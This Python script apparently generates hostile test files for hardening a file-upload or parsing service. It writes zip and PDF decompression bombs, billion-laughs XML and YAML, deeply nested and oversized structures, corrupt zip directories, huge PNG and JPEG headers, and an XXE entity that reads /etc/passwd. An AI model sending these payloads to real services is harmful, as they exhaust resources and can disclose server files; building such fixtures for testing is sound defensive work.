#!/usr/bin/env python3
"""bombs.py DIR: files made to cost whoever reads them more than whoever sends them."""
import os
import struct
import sys
import zipfile
import zlib

here = sys.argv[1]


def save(name, data):
    with open(os.path.join(here, name), 'wb') as f:
        f.write(data)


MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
PKG = 'http://schemas.openxmlformats.org/package/2006/'
HEAD = f'<?xml version="1.0"?><worksheet xmlns="{MAIN}"><sheetData>'
END = '</sheetData></worksheet>'


def workbook(name, sheet, more=()):
    """sheet: pieces of text, or bytes as they are."""
    with zipfile.ZipFile(os.path.join(here, name), 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('[Content_Types].xml', f'<?xml version="1.0"?><Types xmlns="{PKG}content-types">'
                   '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                   '<Default Extension="xml" ContentType="application/xml"/>'
                   '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                   'spreadsheetml.sheet.main+xml"/></Types>')
        z.writestr('_rels/.rels', f'<?xml version="1.0"?><Relationships xmlns="{PKG}relationships"><Relationship Id="r1" '
                   f'Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr('xl/_rels/workbook.xml.rels', f'<?xml version="1.0"?><Relationships xmlns="{PKG}relationships">'
                   f'<Relationship Id="r1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/>'
                   f'<Relationship Id="r2" Type="{REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
        z.writestr('xl/workbook.xml', f'<?xml version="1.0"?><workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets>'
                   '<sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>')
        with z.open('xl/worksheets/sheet1.xml', 'w', force_zip64=True) as f:
            for piece in sheet:
                f.write(piece.encode())
        for path, pieces in more:
            with z.open(path, 'w', force_zip64=True) as f:
                for piece in pieces:
                    f.write(piece if isinstance(piece, bytes) else piece.encode())


mb = 'a' * (1 << 20)
workbook('one-cell.xlsx', [HEAD, '<row r="1"><c r="A1" t="inlineStr"><is><t>', *[mb] * 300, '</t></is></c></row>', END])
workbook('blanks.xlsx', [HEAD, *[' ' * (1 << 20)] * 300, END])
workbook('empty-rows.xlsx', [HEAD, *['<row/>' * 10000] * 300, END])
workbook('empty-cells.xlsx', [HEAD, '<row r="1">', *['<c/>' * 10000] * 300, '</row>', END])
workbook('far-cell.xlsx', [HEAD, '<row r="4294967295"><c r="ZZZZZZZ4294967295"><v>1</v></c></row><row r="2"><c r="XFD2"><v>1</v></c></row>', END])
workbook('deep.xlsx', [HEAD, *['<a>' * 100000] * 20, END])
workbook('attributes.xlsx', [HEAD, '<row ', *[' '.join(f'a{i}_{k}="b"' for i in range(10000)) + ' ' for k in range(20)], '/>', END])
workbook('laughs.xlsx', ['<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">' + ''.join(
    f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12)) + f']><worksheet xmlns="{MAIN}"><sheetData><row><c t="inlineStr"><is><t>&a11;</t></is></c></row>', END])
workbook('entity.xlsx', ['<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                         f'<worksheet xmlns="{MAIN}"><sheetData><row><c t="inlineStr"><is><t>&x;</t></is></c></row>', END])
workbook('strings.xlsx', [HEAD, '<row><c t="s"><v>0</v></c></row>', END], [('xl/sharedStrings.xml', [
    f'<?xml version="1.0"?><sst xmlns="{MAIN}">', *['<si><t/></si>' * 10000] * 500, '</sst>'])])
workbook('one-string-many-times.xlsx', [HEAD, *['<row>' + '<c t="s"><v>0</v></c>' * 500 + '</row>'] * 2000, END], [
    ('xl/sharedStrings.xml', [f'<?xml version="1.0"?><sst xmlns="{MAIN}"><si><t>{"a" * 32000}</t></si></sst>'])])
workbook('many-parts.xlsx', [HEAD, END], [(f'x/{i}.xml', ['a']) for i in range(20000)])

# every name in the directory leads to the same bytes
with open(os.path.join(here, 'one-cell.xlsx'), 'rb') as f:
    whole = f.read()
end = whole.rindex(b'PK\x05\x06')
size, start = struct.unpack('<II', whole[end + 12:end + 20])
entries, at = [], start
while whole[at:at + 4] == b'PK\x01\x02':
    n, x, c = struct.unpack('<HHH', whole[at + 28:at + 34])
    entries.append(whole[at:at + 46 + n + x + c])
    at += 46 + n + x + c
sheet = next(e for e in entries if b'sheet1.xml' in e)
copies = b''.join(sheet.replace(b'sheet1.xml', b'%06d.xml' % i) for i in range(3000))
directory = b''.join(entries) + copies
count = len(entries) + 3000
save('overlapping.xlsx', whole[:start] + directory + struct.pack('<4sHHHHIIH', b'PK\x05\x06', 0, 0, count, count, len(directory), start, 0))
save('short.xlsx', whole[:start] + b'PK\x05\x06')
with zipfile.ZipFile(os.path.join(here, 'nested.xlsx'), 'w', zipfile.ZIP_DEFLATED) as z:
    for i in range(16):
        z.writestr(f'{i}.zip', whole)

save('rows.csv', b'code,name\n' + b',\n' * 3000000)
save('line.csv', b'code,name\n' + b'"' + b'a' * (7 << 20))
save('columns.csv', b',' * (7 << 20))
save('nul.csv', bytes(4 << 20))

save('deep.yaml', b'a: ' + b'[' * 1000000)
save('laughs.yaml', b'a: &a [x, x]\n' + b''.join(b'b%d: &b%d [*%s, *%s]\n' % (i, i, p, p) for i, p in
                                               ((i, b'a' if i == 0 else b'b%d' % (i - 1)) for i in range(40))))
save('keys.yaml', b''.join(b'k%d: 1\n' % i for i in range(300000)))
save('long.yaml', b'title: ' + b'a' * (3 << 20))


def pdf(name, *objects):
    out, where = b'%PDF-1.7\n', []
    for i, o in enumerate(objects, 1):
        where.append(len(out))
        out += b'%d 0 obj\n' % i + o + b'\nendobj\n'
    table = len(out)
    out += b'xref\n0 %d\n0000000000 65535 f \n' % (len(objects) + 1) + b''.join(b'%010d 00000 n \n' % w for w in where)
    save(name, out + b'trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n' % (len(objects) + 1, table))


def stream(data, extra=b''):
    return b'<<%s/Length %d>>\nstream\n' % (extra, len(data)) + data + b'\nendstream'


zeros = zlib.compress(bytes(300 << 20), 9)
page = b'<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>'
root, pages = b'<</Type/Catalog/Pages 2 0 R>>', b'<</Type/Pages/Kids[3 0 R]/Count 1>>'
pdf('bomb.pdf', root, pages, page, stream(zeros, b'/Filter/FlateDecode'))
pdf('bomb-twice.pdf', root, pages, page, stream(zlib.compress(zeros, 9), b'/Filter[/FlateDecode/FlateDecode]'))
pdf('kids.pdf', root, b'<</Type/Pages/Kids[' + b'2 0 R ' * 100000 + b']/Count 999999999>>')
pdf('parents.pdf', root, pages, b'<</Type/Page/Parent 3 0 R>>')
pdf('forms.pdf', root, pages, page, stream(b'/X Do ' * 100000),
    stream(b'/X Do ' * 1000, b'/Type/XObject/Subtype/Form/Resources<</XObject<</X 5 0 R>>>>'))
pdf('deep.pdf', root, b'[' * 1000000)
pdf('images.pdf', root, pages, page, stream(b'/X Do ' * 100000),
    stream(b'', b'/Type/XObject/Subtype/Image/Width 99999999/Height 99999999/BitsPerComponent 8'))
save('objects.pdf', b'%PDF-1.7\n' + b'1 0 obj\n' * 2000000)


def chunk(kind, data):
    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))


def png(name, wide, high, *more):
    save(name, b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', wide, high, 8, 6, 0, 0, 0)) +
         b''.join(more) + chunk(b'IDAT', zlib.compress(bytes(100))) + chunk(b'IEND', b''))


png('huge.png', 65535, 65535)
png('vast.png', 0x7fffffff, 0x7fffffff)
png('text.png', 100, 100, chunk(b'zTXt', b'a\0\0' + zeros), chunk(b'iCCP', b'a\0\0' + zeros))
png('chunks.png', 100, 100, chunk(b'tEXt', b'') * 1000000)
save('frames.jpg', b'\xff\xd8\xff\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0' + b'\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\0\x02\x11\x01\x03\x11\x01' * 200000 + b'\xff\xd9')
